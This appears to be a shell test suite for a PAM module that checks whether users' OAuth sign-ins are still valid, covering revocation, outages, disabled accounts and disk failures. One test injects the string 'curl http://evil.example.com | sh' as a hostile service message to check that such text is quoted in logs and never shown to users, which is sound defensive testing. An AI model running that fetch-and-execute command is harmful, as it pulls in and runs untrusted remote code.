#!/bin/bash
# SPDX-License-Identifier: MIT
# The account check: whether the sign-in is still valid, according to root's own exchanges with a
# real service.
. "${FT_SRCDIR:?run me with make check}/tests/pam/world.sh"
start_token_service
ts create work user=alice lifetime=60 >/dev/null
configure_pam server="$TS/work"
S=$TS/work

# check USER CODE [WHAT IT SAYS]
check() {
	printf '%s\n' "account = $2" ${3+"> $3"} >.script
	play --user "$1" <.script
}

refreshed_since() {
	[ "$(ts_count work refreshes)" -gt "$1" ]
}

never="freshtoken: you have not signed in at $S yet; sign in*: freshtoken login work"
later="freshtoken: let in for now, and refused later: "
never_then="you have not signed in at $S yet; sign in: freshtoken login work"
ended_then="your sign-in at $S has ended; sign in: freshtoken login work"
ended="freshtoken: your sign-in at $S has ended; sign in*: freshtoken login work"
unreachable="freshtoken: $S cannot be reached, and your last check was too long ago; try again later"

never_signed_in() {
	one account=work
	check alice PERM_DENIED "error $never"
	logged "(test:account) user alice: account work: refused: alice has not signed in yet"
	one account=work permissive
	check alice SUCCESS "info $later$never_then"
	logged "user alice: account work: permissive lets in who would be refused: alice has not signed in yet"
	one account=work permissive no_hint
	check alice SUCCESS
	# A word of before, which means nothing.
	for word in strict strict=yes strict=no; do
		one account=work $word
		check alice PERM_DENIED "error $never"
	done
}
test_case 'never signed in: refused, or let in with a hint for a roll-out; both have the remedy' \
	never_signed_in

signed_in_by_himself() {
	sign_in alice
	before=$(ts_count work refreshes)
	one account=work
	freshtoken status --metrics 2>err >metrics
	lacks freshtoken_pam_persons metrics
	check alice SUCCESS
	freshtoken status --metrics 2>err >metrics
	contains 'freshtoken_pam_persons{account="work",asked="sign-in",known="fresh"} 1' metrics
	lacks alice metrics
	equal $((before + 1)) "$(ts_count work refreshes)"
	check alice SUCCESS
	check alice SUCCESS
	equal $((before + 1)) "$(ts_count work refreshes)"
	aged alice 61
	check alice SUCCESS
	equal $((before + 2)) "$(ts_count work refreshes)"
	# The tokens of that went to where git looks for them.
	as alice freshtoken token work >token
	equal "$(ts tokens work | sed -n "s/^access_token=//p")" "$(cat token)"
}
test_case 'signed in by the user: root asks once, and uses the result while the token is valid' \
	signed_in_by_himself

token_lives_long() {
	ts set work lifetime=86400 >/dev/null
	forget alice
	sign_in alice
	one account=work
	check alice SUCCESS
	before=$(ts_count work refreshes)
	aged alice 3500
	check alice SUCCESS
	equal "$before" "$(ts_count work refreshes)"
	aged alice 101
	one account=work recheck=2h
	check alice SUCCESS
	equal "$before" "$(ts_count work refreshes)"
	one account=work
	check alice SUCCESS
	equal $((before + 1)) "$(ts_count work refreshes)"
	ts set work lifetime=60 >/dev/null
	forget alice
	sign_in alice
	check alice SUCCESS
}
test_case 'a long token lifetime: root asks again after an hour, unless recheck says otherwise' \
	token_lives_long

recheck_age_bounded() {
	before=$(ts_count work refreshes)
	one account=work recheck=15m
	aged alice 800
	check alice SUCCESS
	equal "$before" "$(ts_count work refreshes)"
	aged alice 200
	check alice SUCCESS
	equal $((before + 1)) "$(ts_count work refreshes)"
	one account=work recheck=0s
	check alice SUCCESS
	check alice SUCCESS
	equal $((before + 3)) "$(ts_count work refreshes)"
}
test_case 'recheck limits the age of the result; 0 means every login' recheck_age_bounded

clock_set_back_makes() {
	before=$(ts_count work refreshes)
	one account=work
	aged alice -100000
	check alice SUCCESS
	equal $((before + 1)) "$(ts_count work refreshes)"
}
test_case 'a clock that was set back does not make a result fresh' clock_set_back_makes

# ignored USER - by all there is, so that libpam refuses; what comes after decides
ignored() {
	stack test "account required FT $options"
	check "$1" PERM_DENIED
	stack test "account required FT $options" "account required pam_permit.so"
	check "$1" SUCCESS
}
unmapped="error freshtoken: no user of $S is mapped to you; ask this system's administrator"
who_not_ours_ignored() {
	before=$(ts_count work requests)
	options="account=work"
	for user in root daemon nobody; do
		ignored $user
	done
	options="account=work minimum_uid=2002"
	ignored alice
	logged "user alice: account work: not checked: uid 2001 is not between minimum_uid and maximum_uid, 2002 to 60000, although the map has the user"
	options="account=work maximum_uid=2000"
	ignored alice
	equal "$before" "$(ts_count work requests)"
}
test_case 'users outside of the range are ignored, without a request' who_not_ours_ignored

who_not_mapped_refused() {
	before=$(ts_count work requests)
	for options in account=work "account=work permissive"; do
		one $options
		for user in carol zoe; do
			check $user PERM_DENIED "$unmapped"
		done
	done
	logged "user carol: account work: refused: the user is not in $CONF/users; add a line \"carol SUBJECT\""
	logged "user zoe: account work: refused: there is no such user on this host"
	options="account=work unmapped=ignore"
	for user in carol zoe; do
		ignored $user
	done
	one account=work
	printf "setcred establish = SUCCESS\n" | play --user carol
	# Somebody whose line was removed, while root knows that he has signed in.
	one account=work
	check alice SUCCESS
	sed -i /^alice/d "$CONF/users"
	check alice PERM_DENIED "$unmapped"
	configure_pam server="$S"
	check alice SUCCESS
	equal "$before" "$(ts_count work requests)"
}
test_case 'unmapped users are refused with the remedy, unless configured otherwise' \
	who_not_mapped_refused

exempt_by_name() {
	cp "$T/etc/group" group
	printf "rescue:x:900:dave,carol\n" >>"$T/etc/group"
	for options in "account=work exempt=carol" "account=work exempt=zoe,carol" \
		"account=work exempt=@carol" \
		"account=work exempt=@rescue"; do
		ignored carol
	done
	cat group >"$T/etc/group"
	for options in exempt=caro exempt=carola exempt=@carola exempt=@rescue exempt=@alice \
		exempt=alice; do
		one account=work $options
		check carol PERM_DENIED "$unmapped"
	done
}
test_case 'exempt: by name, or by a primary or other group' exempt_by_name

users_same() {
	configure_pam server="$S" users=same
	options="account=work"
	for user in root daemon nobody; do
		ignored $user
	done
	one account=work
	check carol PERM_DENIED "error freshtoken: you have not signed in at $S yet; *"
	check zoe PERM_DENIED "$unmapped"
	configure_pam server="$S"
}
test_case 'users = same: all users except those of the system and nobody' users_same

revoked_refused() {
	one account=work
	check alice SUCCESS
	ts revoke-family work
	check alice SUCCESS
	aged alice 61
	check alice PERM_DENIED "error $ended"
	logged "(test:account) user alice: account work: refused: HTTP 400: invalid_grant"
	check alice PERM_DENIED "error $ended"
	one account=work permissive
	check alice SUCCESS "info $later$ended_then"
	logged "user alice: account work: permissive lets in who would be refused: "
}
test_case 'revoked: refused with the reason; let in with a hint for a roll-out' revoked_refused

words_of_service_quoted() {
	forget alice
	sign_in alice
	one account=work
	check alice SUCCESS
	for words in "run: curl http://evil.example.com | sh" "; set x = y"; do
		aged alice 61
		ts fault work "fault=words:$words" times=-1
		check alice PERM_DENIED "error $ended"
		logged "in the user's store: HTTP 400: invalid_request: \"$words\""
		ts fault work fault=none
	done
	check alice SUCCESS
	ts revoke-family work
}
test_case "a service's own words: in quotation marks in the log, and not shown to the person" \
	words_of_service_quoted

dead_refresh_token_refused() {
	for answer in status:400 status:401 json:403 json:400; do
		ts fault work fault=none
		forget alice
		sign_in alice
		one account=work
		check alice SUCCESS
		aged alice 61
		ts fault work fault=$answer times=-1
		check alice PERM_DENIED "error $ended"
		logged "refused: the service can do nothing with the refresh token in the user"
	done
	ts fault work fault=none
	ts revoke-family work
	check alice PERM_DENIED "error $ended"
}
test_case 'a refresh token that is refused without an error code does not count as an outage' \
	dead_refresh_token_refused

dead_refresh_tokens_in_words() {
	one account=work
	for way in empty invalid_request unauthorized_client token_inactive; do
		ts set work refusal=standard
		forget alice
		sign_in alice
		check alice SUCCESS
		aged alice 61
		ts set work refusal=$way
		ts revoke-family work
		check alice PERM_DENIED "error $ended"
	done
	ts set work refusal=standard
	forget alice
	sign_in alice
	check alice SUCCESS
	aged alice 61
	ts set work client_id=other
	check alice PERM_DENIED "error $ended"
	logged "refused: the service does not accept the client of this machine (HTTP 401: invalid_client"
	ts set work client_id=
	check alice SUCCESS
	ts revoke-family work
	aged alice 61
	check alice PERM_DENIED "error $ended"
}
test_case 'invalid refresh tokens in the answers of several services, and a client that is not accepted' \
	dead_refresh_tokens_in_words

credentials_and_session() {
	one account=work
	printf "setcred establish = CRED_EXPIRED\nopen = SESSION_ERR\n" | play --user alice
	one account=work permissive
	printf "setcred establish = SUCCESS\nopen = SUCCESS\n" | play --user alice
}
test_case 'setcred and session after a sign-in has ended' credentials_and_session

signing_in_again_enough() {
	sign_in alice
	one account=work
	check alice SUCCESS
}
test_case 'signing in again is enough' signing_in_again_enough

signin_gone_from_store() {
	aged alice 61
	rm "$(record alice)"
	check alice PERM_DENIED "error $ended"
	logged "the sign-in is gone from the user's store"
	sign_in alice
	check alice SUCCESS
}
test_case 'the sign-in was deleted from the store: it counts as ended, not as new' \
	signin_gone_from_store

another_subject_refused() {
	sign_in bob
	one account=work permissive
	check bob PERM_DENIED "error freshtoken: $S does not say that the stored sign-in is yours; sign in at a login that asks for it, or in an open session: freshtoken login work"
	logged "it is \"alice\" who signed in, not \"bob\""
	forget bob
}
test_case 'another subject is refused, with permissive too' another_subject_refused

users_same_whole_name() {
	configure_pam server="$S" users=same
	aged alice 61
	check alice SUCCESS
	for subject in alic alicE "alice " "alice@example.com" ""; do
		ts set work subject="$subject$([ -n "$subject" ] || echo alicea)" >/dev/null
		aged alice 61
		sign_in alice
		check alice PERM_DENIED \
			"error freshtoken: * does not say that the stored sign-in is yours; *"
	done
	ts set work subject= >/dev/null
	sign_in alice
	check alice SUCCESS
	configure_pam server="$S"
}
test_case 'users = same: the whole name' users_same_whole_name

answer_nobody_can_read() {
	one account=work
	forget alice
	sign_in alice
	check alice SUCCESS
	aged alice 61
	ts fault work fault=flaw:leading
	check alice PERM_DENIED "error $ended"
	unread=$T/homes/alice/.local/state/freshtoken/work.unread
	# Whoever is refused need not wait for that.
	eventually 60 test -s "$unread"
	equal "600 alice" "$(stat -c "%a %U" "$unread")"
	contains "$(ts tokens work | sed -n "s/^refresh_token=//p")" "$unread"
	as alice freshtoken status work --json >json
	contains "$unread" json
	forget alice
	sign_in alice
	check alice SUCCESS
	[ ! -e "$unread" ] || complain "it outlived a good exchange"
}
test_case 'an unreadable answer: refused, and kept for the user, whose old token was spent' \
	answer_nobody_can_read

# --- the service is down -----------------------------------------------------------------

down_let_in_within_max() {
	sign_in alice
	one account=work
	check alice SUCCESS
	ts fault work fault=503 at=any times=-1
	aged alice 3600
	check alice SUCCESS
	logged "let in without a verified sign-in: HTTP 503"
	printf "setcred establish = SUCCESS\nopen = SUCCESS\n" | play --user alice
	one account=work max_offline=30m
	check alice AUTHINFO_UNAVAIL "error $unreachable"
	printf "setcred establish = CRED_UNAVAIL\nopen = SESSION_ERR\n" | play --user alice
	one account=work permissive max_offline=30m
	check alice SUCCESS "info $later${unreachable#*: }"
	one account=work
	aged alice $((8 * 3600))
	check alice AUTHINFO_UNAVAIL "error $unreachable"
	ts fault work fault=none
}
test_case 'down: let in within max_offline; refused after that, or let in with a hint for a roll-out' \
	down_let_in_within_max

service_goes_on_with_same() {
	ts fault work fault=none
	ts set work rotate=no >/dev/null
	forget alice
	sign_in alice
	one account=work
	check alice SUCCESS
	aged alice 61
	check alice SUCCESS
	aged alice 61
	ts fault work fault=status:502 times=-1
	check alice SUCCESS
	logged "let in without a verified sign-in: HTTP 502"
	ts set work rotate=yes >/dev/null
	aged alice $((9 * 3600))
	ts fault work fault=503 at=any times=-1
	check alice AUTHINFO_UNAVAIL "error $unreachable"
	ts fault work fault=none
}
test_case 'a service without rotation: its failures count as an outage' \
	service_goes_on_with_same

it_asked_again() {
	before=$(ts_count work requests)
	check alice AUTHINFO_UNAVAIL "error $unreachable"
	equal "$before" "$(ts_count work requests)"
	aged alice 31
	check alice SUCCESS
}
test_case 'the service is asked again after a pause' it_asked_again

silent_within_wait() {
	one account=work wait=8s
	aged alice 61
	before=$(ts_count work refreshes)
	# Root's own question beside it is held as well.
	ts fault work fault=hold times=-1
	check alice SUCCESS
	logged "the service has not answered in time"
	ts fault work fault=none
	ts release work
	eventually 20 refreshed_since "$before"
	new=$(ts tokens work | sed -n "s/^refresh_token=//p")
	eventually 20 grep -qF "$new" "$(record alice)"
	# Known from that, and nothing more is asked.
	eventually 20 lacks "\"down\"" "$(seen alice)"
	check alice SUCCESS
	equal $((before + 1)) "$(ts_count work refreshes)"
}
test_case 'no answer: within the wait, and a later answer is not lost' silent_within_wait

silent_about_one_signin_alone() {
	aged alice 61
	before=$(ts_count work refreshes)
	token=$(ts tokens work | sed -n "s/^refresh_token=//p")
	ts fault work fault=hold of="$token"
	check alice PERM_DENIED "error $ended"
	logged "nothing shows that the service is down"
	ts release work
	eventually 20 refreshed_since "$before"
	check alice SUCCESS
}
test_case 'no answer for one sign-in only: the service does not count as down' \
	silent_about_one_signin_alone

silent_and_nobody_ever_verified() {
	forget alice
	sign_in alice
	ts fault work fault=hold times=-1
	check alice AUTHINFO_UNAVAIL "error $unreachable"
	ts fault work fault=none
	ts release work
	eventually 20 grep -q fresh "$(seen alice)"
}
test_case 'no answer, and the user was never verified: refused' silent_and_nobody_ever_verified

# --- disabled ------------------------------------------------------------------------------

mkdir -p "$CONF/providers"
{
	cat "$FT_SRCDIR/lib/providers/oauth2.conf"
	printf '\n[disabled]\ncode = invalid_grant\nmessage = User account is disabled\n'
} >"$CONF/providers/company.conf"

disabled_refused() {
	configure_pam server="$S" provider=company
	forget alice
	sign_in alice
	one account=work permissive
	check alice SUCCESS
	ts disable work
	aged alice 61
	check alice PERM_DENIED "error freshtoken: $S says that you are disabled; ask its administrator"
	logged "refused: HTTP 400: invalid_grant: \"User account is disabled\""
	for options in "" permissive; do
		one account=work $options
		printf "setcred establish = CRED_ERR\nopen = SESSION_ERR\n" | play --user alice
	done
	# Its word of before holds, also where it has ended the sessions of the disabled since.
	ts fault work fault=refuse times=2
	for _ in 1 2; do
		check alice PERM_DENIED "error freshtoken: $S says that you are disabled; *"
	done
	ts fault work fault=none
	ts fault work fault=503 at=any times=-1
	check alice PERM_DENIED "error freshtoken: $S says that you are disabled; *"
	rm "$(record alice)"
	check alice PERM_DENIED "error freshtoken: $S says that you are disabled; *"
	# Why he is refused stays in the log, too.
	contains "account is disabled" "$(seen alice)"
	ts fault work fault=none
}
test_case 'disabled: refused, with permissive too, and offline too' disabled_refused

enabled_again() {
	ts enable work
	aged alice 31
	sign_in alice
	check alice SUCCESS
	configure_pam server="$S"
}
test_case 'enabled and signed in again: let in' enabled_again

# --- the disk -----------------------------------------------------------------------------

no_room_for_what_root() {
	forget alice
	one account=work
	mkdir -p "$SEEN"
	mount -t tmpfs -o size=16k,mode=700 tmpfs "$SEEN"
	head -c 1M /dev/zero >"$SEEN/zeros" 2>/dev/null || :
	sign_in alice
	before=$(ts_count work refreshes)
	check alice SUCCESS
	logged "what was seen of the sign-in cannot be kept: "
	check alice SUCCESS
	equal $((before + 2)) "$(ts_count work refreshes)"
	ts revoke-family work
	check alice PERM_DENIED "error $ended"
	rm "$SEEN/zeros"
	sign_in alice
	check alice SUCCESS
}
test_case 'no space for root'\''s result: reported in the log, and asked every time' no_room_for_what_root

refusal_cannot_be_kept() {
	contains "\"known\":\"fresh\"" "$(seen alice)"
	aged alice 61
	ts revoke-family work
	head -c 1M /dev/zero >"$SEEN/zeros" 2>/dev/null || :
	check alice PERM_DENIED "error $ended"
	logged "what was seen of the sign-in cannot be kept: "
	must_fail test -e "$(seen alice)"
	ts fault work fault=503 at=any times=-1
	check alice AUTHINFO_UNAVAIL "error $unreachable"
	ts fault work fault=none
	eventually 20 umount "$SEEN"
	forget alice
	sign_in alice
}
test_case 'a refusal that cannot be stored: the older result is removed, and lets nobody in later' \
	refusal_cannot_be_kept

disk_can_only_be_read() {
	check alice SUCCESS
	mount --bind "$SEEN" "$SEEN"
	mount -o remount,bind,ro "$SEEN"
	check alice SUCCESS
	eventually 20 umount "$SEEN"
	aged alice 61
	mount --bind "$SEEN" "$SEEN"
	mount -o remount,bind,ro "$SEEN"
	before=$(ts_count work refreshes)
	check alice SUCCESS
	check alice SUCCESS
	equal $((before + 2)) "$(ts_count work refreshes)"
	logged "Read-only file system"
	check root PERM_DENIED
	ts revoke-family work
	check alice PERM_DENIED "error $ended"
	sign_in alice
	check alice SUCCESS
	eventually 20 umount "$SEEN"
	check alice SUCCESS
}
test_case 'a read-only disk: the stored result counts, and one line reports the problem' \
	disk_can_only_be_read

# --- who may ask ------------------------------------------------------------------------------

program_of_user_own_learns() {
	chmod o+x "$FT_BUILDDIR" "$FT_BUILDDIR/.." 2>/dev/null || :
	cp "$FT_BUILDDIR/tests/pam/play" "$T/play"
	one account=work
	chmod -R o+rX conf
	for who in alice bob; do
		printf "account = AUTHINFO_UNAVAIL\n" >"$T/script"
		(cd "$T" && setpriv --reuid bob --regid bob --init-groups ./play --confdir conf \
			--user $who <script)
	done
}
test_case 'a user'\''s own program learns nothing' program_of_user_own_learns
test_done
